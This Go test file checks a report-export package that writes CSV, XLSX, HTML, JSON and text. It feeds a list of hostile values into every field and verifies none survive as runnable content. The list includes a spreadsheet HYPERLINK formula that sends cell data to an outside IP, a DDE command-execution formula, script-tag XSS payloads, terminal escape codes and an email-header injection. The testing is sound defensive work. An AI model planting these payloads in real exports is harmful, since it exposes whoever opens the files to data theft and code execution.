package document_test

import (
	"encoding/csv"
	"encoding/json"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"rollcall/collector/internal/document"
	"rollcall/collector/internal/reconcile"
	"rollcall/pkg/inventory"
)

// formula is a cell that a spreadsheet would run, or a part of one that becomes
// a cell where ";" or a tab parts them.
var formula = regexp.MustCompile(`^ *[=+\-@\t\r\n＝＋－＠]|; *[=+\-@＝＋－＠]`)

var hostile = []struct{ name, value string }{
	{"formula", "=HYPERLINK(\"http://192.0.2.66/?\"&A1,\"x\")"},
	{"command", "=cmd|' /C calc'!A0"},
	{"plus", "+1+1"},
	{"minus", "-1+1"},
	{"at", "@SUM(A1:A9)"},
	{"tab", "\t=1+1"},
	{"carriage return", "\r=1+1"},
	{"line end", "\n=1+1"},
	{"full width", "＝1+1"},
	{"semicolon", "a;=1+1"},
	{"quotes", `"=1+1"`},
	{"terminal", "\x1b]0;owned\x07\x1b[31mred"},
	{"C1", "a\u009b31mb"},
	{"overridden direction", "a\u202eb"},
	{"markup", "<script>alert(1)</script><img src=x onerror=alert(2)>"},
	{"attribute", `" onmouseover="alert(3)`},
	{"template", "{{.}}"},
	{"end of style", "</style><script>alert(4)</script>"},
	{"not UTF-8", "a\xff\xfeb"},
	{"null", "a\x00b"},
	{"header", "x\r\nBcc: someone@example.org"},
}

// attacked is the food bank with the value in everything that devices, files and
// people say.
func attacked(value string) document.Input {
	in := foodBank()
	in.Facts.Name = value
	for i := range in.Facts.Lines {
		l := &in.Facts.Lines[i]
		l.Description, l.Site, l.SiteAddress, l.ServiceLevel = value, value, value, value
	}
	for i := range in.Facts.Nodes {
		n := &in.Facts.Nodes[i]
		n.Name, n.Model, n.Software, n.Problems = value, value, value, []inventory.Problem{{Message: value}}
	}
	for i := range in.Facts.Orders {
		in.Facts.Orders[i].ProductID = value
	}
	for i := range in.Facts.Imports {
		in.Facts.Imports[i].File = value
	}
	for i := range in.Facts.Agents {
		in.Facts.Agents[i].Name = value
	}
	for i := range in.Units {
		u := &in.Units[i]
		u.Description, u.Node, u.Slot, u.ServiceLevel = value, value, value, value
		if u.Coverage == reconcile.Uncovered {
			u.Serial, u.PID = value, value
		}
	}
	for i := range in.Findings {
		f := &in.Findings[i]
		f.Subject, f.Node, f.Evidence = value, value, []string{value}
		f.NextStep.Title, f.NextStep.Steps = value, []string{value}
		sheet := reconcile.Sheet{}
		for name, v := range f.NextStep.Sheet {
			if sheet[name] = v; name != "to" && name != "order_number" && name != "contract" && v != "" {
				sheet[name] = value
			}
		}
		f.NextStep.Sheet = sheet
	}
	return in
}

// Whatever a device, a file or a person says, no document runs it.
func TestHostileValues(t *testing.T) {
	for _, h := range hostile {
		t.Run(h.name, func(t *testing.T) {
			for _, tt := range cases {
				request := tt.request
				if request.Kind == document.Swap {
					request.Of = ""
				}
				if len(request.Fields) > 0 {
					request.Fields = map[string]string{"contact": "x" + h.value}
					if request.Of == "activation_overdue" || request.Of == "early_activation" {
						request.Fields["reason"] = "x" + h.value
					}
				}
				d, err := document.Make(attacked(h.value), request)
				if err != nil {
					t.Fatalf("%s: %v", tt.name, err)
				}
				for _, f := range document.Offered(request.Kind) {
					if f == document.XLSX && request.Kind != document.Renewal && request.Kind != document.Findings {
						continue // all go through one writer
					}
					checkSafe(t, tt.name, f, write(t, d, f), h.value)
				}
			}
		})
	}
}

func checkSafe(t *testing.T, name string, f document.Format, raw []byte, value string) {
	t.Helper()
	if f == document.XLSX {
		readBack(t, raw) // fails on a formula
		return
	}
	text := string(raw)
	if i := strings.IndexFunc(text, func(r rune) bool {
		return r < ' ' && r != '\n' || r >= 0x7f && r < 0xa0 || r == 0x202e || r == '\uFFFD'
	}); i >= 0 {
		t.Errorf("%s as %s has a control character at %q", name, f, text[i:min(i+20, len(text))])
	}
	switch f {
	case document.CSV:
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if formula.MatchString(cell) {
					t.Errorf("%s as csv has a cell that a spreadsheet runs: %q", name, cell)
				}
			}
		}
	case document.HTML:
		if strings.Count(text, "<script") > 0 || strings.Contains(text, "<img") || strings.Contains(text, "onmouseover=\"") || strings.Count(text, "<style>") != 1 {
			t.Errorf("%s as html lets %q through", name, value)
		}
	case document.JSON:
		if !json.Valid(raw) {
			t.Errorf("%s as json is none", name)
		}
	case document.Text:
		if strings.Contains(text, "\nBcc:") {
			t.Errorf("%s as text has a header of somebody else", name)
		}
	}
}

// A workbook keeps what looks like a number or a date as it was written.
func TestWorkbookKeepsText(t *testing.T) {
	for _, serial := range []string{"00123", "1E10", "12345678901234567890", "2026-01-02", "TRUE", "=1+1"} {
		in := foodBank()
		in.Units[0].Serial = serial
		d, err := document.Make(in, document.Request{Kind: document.Units})
		if err != nil {
			t.Fatal(err)
		}
		cells := readBack(t, write(t, d, document.XLSX))
		if !slices.ContainsFunc(cells, func(s string) bool { return strings.HasSuffix(s, " text "+serial) }) {
			t.Errorf("serial %s is not in the workbook as text", serial)
		}
	}
}

// The first sheet of a workbook is the list, with its header fixed.
func TestWorkbookSheets(t *testing.T) {
	d, err := document.Make(foodBank(), document.Request{Kind: document.Renewal})
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(strings.NewReader(string(write(t, d, document.XLSX))))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	if got, want := strings.Join(f.GetSheetList(), ", "), "renewal, Quantities for an offer, about"; got != want {
		t.Errorf("sheets %s, want %s", got, want)
	}
	if panes, err := f.GetPanes("renewal"); err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("the header is not fixed: %+v, %v", panes, err)
	}
}

// FuzzCSV: no cell of any document as CSV is run, and what goes in comes out but
// for the mark in front.
func FuzzCSV(f *testing.F) {
	for _, h := range hostile {
		f.Add(h.value)
	}
	f.Fuzz(func(t *testing.T, value string) {
		in := foodBank()
		in.Units[0].Description = value
		d, err := document.Make(in, document.Request{Kind: document.Units})
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(string(write(t, d, document.CSV)))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != len(in.Units)+1 {
			t.Fatalf("%d rows, want a header and %d units", len(rows), len(in.Units))
		}
		for _, row := range rows {
			for _, cell := range row {
				if formula.MatchString(cell) {
					t.Errorf("%q gives the cell %q, which a spreadsheet runs", value, cell)
				}
			}
		}
	})
}
